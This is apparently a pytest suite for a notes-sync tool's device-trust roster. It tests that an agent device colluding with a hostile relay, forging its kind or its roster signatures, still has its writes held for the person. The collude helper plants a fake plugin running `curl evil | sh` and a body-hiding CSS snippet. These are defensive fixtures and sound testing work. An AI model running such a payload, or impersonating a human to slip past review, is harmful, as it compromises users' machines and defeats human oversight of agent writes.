"""A relay and an agent together cannot pass the agent off as the person (issue 44, finding 9).

Through a real relay on loopback: the person's laptop starts the roster (`trust init`), the
agent's server joins and is vouched for as an agent. Then the relay's database relabels the
server's device as `human` and the server's own state claims `human`, so it seals its records
as the person's: version 1's two witnesses (the relay's label, the sealed claim) both lie. On
the anchored laptop the server's Obsidian plugin is still held and the person's edit still
wins, because the kind comes from the person's signature (docs/trust.md). Without a roster the
same attack passes, which is what version 1 could not stop.
"""

from __future__ import annotations

import hashlib
import json
import sqlite3
from dataclasses import replace
from pathlib import Path

import pytest

from companion.crypto import ChunkRef, FileMeta
from companion.crypto.signing import DeviceKey, RosterEntry
from companion.sync.remote.vault import Outgoing
from companion.sync.state.device import DeviceState
from companion.sync.state.trust import (
    TrustContext,
    TrustError,
    announcement_rel,
    roster_rel,
    trust_accept,
    trust_init,
    trust_summary,
    trust_vouch,
)
from tests.syncharness import Device, SyncCluster

PLUGIN = ".obsidian/plugins/evil/main.js"
PLAN = "projects/plan.md"


def ctx(dev: Device) -> TrustContext:
    return TrustContext.open(dev.paths, dev.config, dev.vault)


def own_fingerprint(dev: Device) -> str:
    fp = trust_summary(ctx(dev))["fingerprint"]
    assert fp, dev.name
    return str(fp)


def vouch(by: Device, dev: Device, kind: str) -> None:
    """`by` vouches for `dev`, with the fingerprint read on `dev` itself."""
    state = DeviceState.load(dev.paths, dev.vault)
    trust_vouch(ctx(by), state.device_id, kind, own_fingerprint(dev))


def device_id(dev: Device) -> str:
    return DeviceState.load(dev.paths, dev.vault).device_id


def relabel(cluster: SyncCluster, dev: Device, kind: str) -> None:
    """The hostile relay: its database now says `dev` was invited as `kind`."""
    db = sqlite3.connect(cluster.relay.data_dir / "relay.db")
    with db:
        n = db.execute(
            "UPDATE devices SET kind = ? WHERE device_id = ?", (kind, device_id(dev))
        ).rowcount
    db.close()
    assert n == 1


def claim_kind(dev: Device, kind: str) -> None:
    """The hostile agent: its own state says it is `kind`, so it seals its records so."""
    state = DeviceState.load(dev.paths, dev.vault)
    state.kind = kind
    state.save(dev.paths)
    dev.restart()


@pytest.fixture
def world(tmp_path: Path):
    with SyncCluster(tmp_path) as c:
        laptop = c.add_device("laptop", "human")
        server = c.add_device("server", "agent")
        laptop.write(PLAN, "# Plan\nstatus: draft\n")
        c.sync_all()
        yield c, laptop, server


def set_up_roster(cluster: SyncCluster, laptop: Device, server: Device) -> None:
    trust_init(ctx(laptop))
    laptop.sync()
    server.sync()  # brings the roster: the server announces its key
    assert server.read(announcement_rel(device_id(server))) is not None
    laptop.sync()
    vouch(laptop, server, "agent")
    laptop.sync()
    server.sync()


def collude(cluster: SyncCluster, laptop: Device, server: Device) -> None:
    """Relay and agent lie together; the agent ships a plugin and races the person's edit."""
    relabel(cluster, server, "human")
    claim_kind(server, "human")
    server.write(PLUGIN, "require('child_process').exec('curl evil | sh')\n")
    server.write(PLAN, "# Plan\nstatus: cancelled, says the agent\n")
    server.sync()
    laptop.write(PLAN, "# Plan\nstatus: shipped, says Lucia\n")


@pytest.mark.parametrize("roster", [True, False], ids=["anchored", "version1"])
def test_a_relabelled_agent_sealing_as_human_is_still_an_agent(world, roster: bool) -> None:
    cluster, laptop, server = world
    if roster:
        set_up_roster(cluster, laptop, server)
    collude(cluster, laptop, server)
    report = laptop.sync()
    if not roster:
        # version 1's rule: both witnesses say human, so the plugin lands unheld
        assert PLUGIN not in report.held
        assert laptop.read(PLUGIN) is not None
        return
    assert PLUGIN in report.held
    assert laptop.read(PLUGIN) is None
    assert laptop.read(PLAN) == b"# Plan\nstatus: shipped, says Lucia\n"
    cluster.sync_all()
    assert laptop.read(PLAN) == b"# Plan\nstatus: shipped, says Lucia\n"
    assert server.read(PLAN) == b"# Plan\nstatus: shipped, says Lucia\n"
    # history shows the server's revision as an agent's, whatever the relay says
    out = laptop.cli("history", str(laptop.vault), PLAN, "--json")
    assert out.returncode == 0, out.stderr
    kinds = {r["device"]: r["kind"] for r in json.loads(out.stdout) if not r.get("refused")}
    assert kinds["server"] == "agent" and kinds["laptop"] == "human"


def test_a_forged_roster_entry_gains_the_agent_nothing(world) -> None:
    cluster, laptop, server = world
    set_up_roster(cluster, laptop, server)
    server_id, laptop_id = device_id(server), device_id(laptop)
    vault_id = DeviceState.load(server.paths, server.vault).vault_id
    own = ctx(server).key()  # the agent's own key: all it has
    forged_self = RosterEntry(
        vault_id=vault_id, device_id=server_id, key=own.public_text, kind="human",
        name="laptop", by=server_id, at=2**62,
    ).signed(own)  # fmt: skip
    forged_laptop = replace(forged_self, by=laptop_id).signed(own)  # "the laptop signed it"
    server.write(roster_rel(server_id), forged_laptop.to_json())
    server.sync()
    report = laptop.sync()
    assert roster_rel(server_id) in report.held  # the roster is the person's
    # even where it lands (the person let it in, or a device that does not hold), it does not
    # verify: the server is no longer vouched for, so it counts as an agent all the same
    for forged in (forged_laptop, forged_self):
        laptop.write(roster_rel(server_id), forged.to_json())
        summary = trust_summary(ctx(laptop))
        assert {t["device_id"]: t["kind"] for t in summary["trusted"]} == {laptop_id: "human"}
        assert [n["file"] for n in summary["not_vouched"]] == [server_id]
    claim_kind(server, "human")
    relabel(cluster, server, "human")
    server.write(".obsidian/snippets/x.css", "body { display: none }\n")
    server.sync()
    assert ".obsidian/snippets/x.css" in laptop.sync().held


def _commit_as(dev: Device, path: str, data: bytes, *, sig: str | None) -> None:
    """`dev` commits `data` at `path` with this `sig` (None: unsigned, as before keys)."""
    engine = dev.engine()
    remote = engine.core.remote
    head = remote.head(path)
    parent = head.rev if head is not None else 0
    bid = remote.blob_id(data)
    remote.upload({bid: data})
    meta = FileMeta(
        path=path, size=len(data), sha256=hashlib.sha256(data).hexdigest(),
        chunks=(ChunkRef(bid, len(data)),), device_id=engine.core.device.device_id,
        device_name=engine.core.name, device_kind=engine.core.kind, sig=sig,
    )  # fmt: skip
    trust, remote.trust = remote.trust, None  # seal as given, unsigned or badly signed
    try:
        result = remote.commit([[Outgoing(meta, parent)]])
    finally:
        remote.trust = trust
    assert path in result.committed, result


@pytest.fixture
def three(tmp_path: Path):
    with SyncCluster(tmp_path) as c:
        laptop = c.add_device("laptop", "human")
        phone = c.add_device("phone", "human")
        server = c.add_device("server", "agent")
        laptop.write(PLAN, "# Plan\n")
        c.sync_all()
        trust_init(ctx(laptop))
        c.sync_all()
        trust_accept(ctx(phone), own_fingerprint(laptop))
        c.sync_all()
        vouch(laptop, phone, "human")
        vouch(laptop, server, "agent")
        c.sync_all()
        yield c, laptop, phone, server


def test_the_persons_devices_apply_each_other_and_hold_the_agent(three) -> None:
    cluster, laptop, phone, server = three
    phone.write(".obsidian/app.json", '{"theme": "dark"}\n')
    server.write(".obsidian/hotkeys.json", "{}\n")
    phone.sync()
    server.sync()
    report = laptop.sync()
    assert laptop.read(".obsidian/app.json") == b'{"theme": "dark"}\n'
    assert report.held == [".obsidian/hotkeys.json"]
    # the phone, anchored on the laptop, judges the same way
    assert phone.sync().held == [".obsidian/hotkeys.json"]
    summary = trust_summary(ctx(phone))
    kinds = {t["device_id"]: t["kind"] for t in summary["trusted"]}
    assert kinds == {device_id(laptop): "human", device_id(phone): "human",
                     device_id(server): "agent"}  # fmt: skip


def test_an_unsigned_record_of_a_vouched_human_device_counts_as_an_agents(three) -> None:
    """A record from before the device had a key (or one someone stripped of its `sig`)."""
    cluster, laptop, phone, server = three
    _commit_as(phone, ".obsidian/appearance.json", b"{}\n", sig=None)
    report = laptop.sync()
    assert report.held == [".obsidian/appearance.json"]


def test_a_vouched_devices_record_with_a_broken_signature_is_quarantined(three) -> None:
    cluster, laptop, phone, server = three
    laptop.write("notes/a.md", "the person's note\n")
    cluster.sync_all()
    bad = DeviceKey(hashlib.sha256(b"not the phone").digest()).sign(b"anything")
    _commit_as(phone, "notes/a.md", b"rewritten\n", sig=bad)
    report = laptop.sync()
    assert report.quarantined == ["notes/a.md"]
    assert laptop.read("notes/a.md") == b"the person's note\n"
    (row,) = laptop.engine().quarantined()
    assert "signature does not verify" in row.reason
    # a device without an anchor (the agent) applies it under version 1's rule
    server.sync()
    assert server.read("notes/a.md") == b"rewritten\n"


def test_revoking_a_device_makes_its_writes_an_agents(three) -> None:
    cluster, laptop, phone, server = three
    trust_vouch(ctx(laptop), device_id(phone), "revoked", None)
    laptop.sync()
    phone.sync()
    phone.write(".obsidian/app.json", "{}\n")
    phone.sync()
    assert laptop.sync().held == [".obsidian/app.json"]


# ------------------------------------------------------------------------------ the commands


def test_the_commands_refuse_what_they_cannot_do(three) -> None:
    cluster, laptop, phone, server = three
    with pytest.raises(TrustError, match="agent device"):
        trust_init(ctx(server))
    with pytest.raises(TrustError, match="agent device"):
        trust_vouch(ctx(server), device_id(phone), "human", own_fingerprint(phone))
    with pytest.raises(TrustError, match="not a device key fingerprint"):
        trust_vouch(ctx(laptop), device_id(phone), "human", "ABCD")
    with pytest.raises(TrustError, match="is not the key device"):
        trust_vouch(ctx(laptop), device_id(server), "human", own_fingerprint(phone))
    with pytest.raises(TrustError, match="no device 'nobody'"):
        trust_vouch(ctx(laptop), "nobody", "human", own_fingerprint(phone))
    with pytest.raises(TrustError, match="give the FINGERPRINT"):
        trust_vouch(ctx(laptop), "server", "agent", None)
    with pytest.raises(TrustError, match="this device's own key"):
        trust_accept(ctx(phone), own_fingerprint(phone))
    with pytest.raises(TrustError, match="no device of this vault announces"):
        trust_accept(ctx(phone), "AAAA-AAAA-AAAA-AAAA-AAAA-AAAA-AAAA")
    # by name works as by id
    trust_vouch(ctx(laptop), "server", "agent", own_fingerprint(server))


def test_a_device_not_set_up_says_so(world, tmp_path: Path) -> None:
    cluster, laptop, server = world
    out = laptop.cli("status", str(laptop.vault), "--offline")
    assert out.returncode == 0, out.stderr
    assert "device keys: not set up" in out.stdout
    out = laptop.cli("trust", "vouch", str(laptop.vault), "server", "--kind", "agent")
    assert out.returncode != 0
    assert "device keys are not set up on this device" in out.stderr
    out = server.cli("trust", "accept", str(server.vault), "AAAA-AAAA-AAAA-AAAA-AAAA-AAAA-AAAA")
    assert out.returncode != 0 and "no device of this vault has announced" in out.stderr
    # the vault holds nothing of keys until a roster exists
    assert not any(p.startswith(".companion/keys/") for p in laptop.files())
    out = laptop.cli("trust", "init", str(laptop.vault))
    assert out.returncode == 0, out.stderr
    fp = out.stdout.split("fingerprint: ")[1].split()[0]
    assert fp == own_fingerprint(laptop)
    out = laptop.cli("status", str(laptop.vault), "--offline")
    assert f"device keys: anchored on laptop ({fp})" in out.stdout
    cluster.sync_all(rounds=3)
    out = laptop.cli("status", str(laptop.vault), "--offline")
    assert "1 device not vouched for" in out.stdout
    out = laptop.cli("trust", "show", str(laptop.vault))
    assert out.returncode == 0 and "not vouched for (1; count as agents)" in out.stdout
